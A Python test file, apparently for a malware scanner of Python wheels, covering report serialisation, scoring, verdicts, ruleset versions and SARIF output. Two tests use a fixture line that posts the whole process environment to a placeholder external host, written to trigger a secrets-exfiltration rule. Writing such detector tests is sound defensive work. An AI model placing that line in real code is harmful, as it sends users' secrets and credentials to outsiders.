"""Reports, verdicts and rule sets as values."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scan import scan_import, the_ruleset
from wheelmark.scan import (
    Context,
    DecodedLayer,
    Finding,
    Report,
    Rule,
    RuleSet,
    RuleState,
    Severity,
    Step,
    StepKind,
    Tactic,
    Verdict,
)
from wheelmark.scan.facts import Facts
from wheelmark.scan.rule import Evidence
from wheelmark.scan.sarif import to_sarif
from wheelmark.scan.verdict import score_of, verdict_of

FIELDS = {"file", "sha256", "verdict", "score", "findings", "elapsed_ms", "ruleset"}
FINDING_FIELDS = {"rule", "severity", "member", "line", "message", "evidence"}


def a_finding(rule: str = "a-rule", severity: Severity = Severity.HIGH) -> Finding:
    return Finding(rule=rule, severity=severity, member="m.py", line=1, message="m.", evidence="e")


def a_rule(**changes: object) -> Rule:
    rule = Rule(
        id="a-rule",
        version=1,
        severity=Severity.HIGH,
        tactic=Tactic.EXECUTION,
        message="Something.",
        reference="https://example.invalid/",
        check=lambda facts: [
            Evidence(
                severity=Severity.CRITICAL, member="m.py", line=1, context=Context.IMPORT, text="\x1b[2J\u202eseen"
            )
        ],
    )
    return replace(rule, **changes)  # type: ignore[arg-type]  # fields of Rule


FACTS = Facts(filename="x.whl", is_wheel=True, is_pure=True, members=())
text = st.text(max_size=20)
steps = st.builds(Step, kind=st.sampled_from(StepKind), what=text, member=text, line=st.integers(0, 10**6))
layers = st.builds(
    DecodedLayer,
    member=text,
    line=st.integers(0, 10**6),
    depth=st.integers(1, 6),
    decoders=st.lists(text, max_size=3).map(tuple),
    text=text,
)
findings = st.builds(
    Finding,
    rule=text,
    severity=st.sampled_from(Severity),
    member=text,
    line=st.integers(0, 10**6),
    message=text,
    evidence=text,
    tactic=st.sampled_from(Tactic),
    context=st.sampled_from(Context),
    flow=st.lists(steps, max_size=3).map(tuple),
)
reports = st.builds(
    Report,
    file=text,
    sha256=text,
    verdict=st.sampled_from(Verdict),
    score=st.floats(0, 1),
    findings=st.lists(findings, max_size=3).map(tuple),
    elapsed_ms=st.floats(0, 1e6),
    ruleset=text,
    incomplete_reason=st.none() | text,
    layers=st.lists(layers, max_size=2).map(tuple),
)


@given(reports)
@settings(max_examples=50)
def test_report_survives_json(report: Report) -> None:
    line = report.to_json(with_context=True)
    assert b"\n" not in line
    assert Report.from_json(line) == report


def test_json_has_exactly_the_fixed_fields() -> None:
    report = scan_import("import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))")
    document = json.loads(report.to_json())
    assert set(document) == FIELDS
    assert all(set(finding) == FINDING_FIELDS for finding in document["findings"])
    incomplete = json.loads(replace(report, incomplete_reason="why").to_json())
    assert set(incomplete) == FIELDS | {"incomplete_reason"}


@pytest.mark.parametrize("line", [b"", b"null", b"[]", b"{}", b'{"file": 1}', b'"x"', b"\xff"])
def test_line_that_is_no_report_is_refused(line: bytes) -> None:
    with pytest.raises(ValueError):
        Report.from_json(line)


@given(st.lists(st.sampled_from(Severity), max_size=8), st.sampled_from(Severity))
@settings(max_examples=50)
def test_one_more_finding_never_lowers_the_score(severities: list[Severity], more: Severity) -> None:
    some = [a_finding(f"rule-{number}", severity) for number, severity in enumerate(severities)]
    assert score_of([*some, a_finding("more", more)]) >= score_of(some)


def test_many_findings_of_one_rule_count_once() -> None:
    assert score_of([a_finding()] * 50) == score_of([a_finding()])


def test_no_number_of_lesser_findings_makes_a_file_malicious() -> None:
    many = [a_finding(f"rule-{number}", Severity.HIGH) for number in range(20)]
    assert verdict_of(many, complete=True) is Verdict.SUSPICIOUS
    assert verdict_of([a_finding(severity=Severity.CRITICAL)], complete=True) is Verdict.MALICIOUS


def test_incomplete_scan_is_never_benign() -> None:
    assert verdict_of([], complete=False) is Verdict.INCOMPLETE
    assert verdict_of([a_finding()], complete=False) is Verdict.INCOMPLETE


def test_rule_in_evaluation_reports_but_does_not_count() -> None:
    found = a_rule(state=RuleState.EVALUATION).findings(FACTS, 10)
    assert [finding.severity for finding in found] == [Severity.INFO]
    assert score_of(found) == 0


def test_finding_is_never_graver_than_its_rule_allows() -> None:
    assert a_rule(severity=Severity.LOW).findings(FACTS, 10)[0].severity is Severity.LOW


def test_evidence_shows_control_and_bidi_characters_instead_of_obeying_them() -> None:
    assert a_rule().findings(FACTS, 10)[0].evidence == "\\u001b[2J\\u202eseen"


def test_ruleset_version_changes_with_a_rule_its_version_and_its_state() -> None:
    versions = {
        RuleSet((a_rule(),)).version,
        RuleSet((a_rule(version=2),)).version,
        RuleSet((a_rule(), a_rule(id="another"))).version,
        RuleSet((a_rule(), a_rule(id="another", state=RuleState.EVALUATION))).version,
    }
    assert len(versions) == 4
    assert RuleSet((a_rule(), a_rule(id="off", state=RuleState.DISABLED))).version == RuleSet((a_rule(),)).version


@pytest.mark.parametrize(
    "rules", [(), (a_rule(state=RuleState.DISABLED),), (a_rule(), a_rule()), (a_rule(id="No Good"),)]
)
def test_ruleset_that_would_lie_is_a_mistake(rules: tuple[Rule, ...]) -> None:
    with pytest.raises(RuntimeError, match="expected"):
        RuleSet(rules)


def test_no_rules_at_all_never_means_clean() -> None:
    assert len([rule for rule in the_ruleset().rules if rule.state is RuleState.ENABLED]) >= 12


def test_sarif_names_rules_places_and_gaps() -> None:
    report = scan_import("import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))")
    gap = replace(report, file="a file.whl", findings=(), verdict=Verdict.INCOMPLETE, incomplete_reason="too large")
    log = json.loads(to_sarif([report, gap], the_ruleset().rules, "1"))
    run = log["runs"][0]
    assert log["version"] == "2.1.0"
    result = run["results"][0]
    assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"] == "secrets-sent"
    place = result["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"] == "widget-1-py3-none-any.whl/widget/__init__.py"
    assert place["region"]["startLine"] == 2
    assert result["level"] == "error"
    assert run["invocations"][0]["executionSuccessful"] is False
    assert "too large" in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
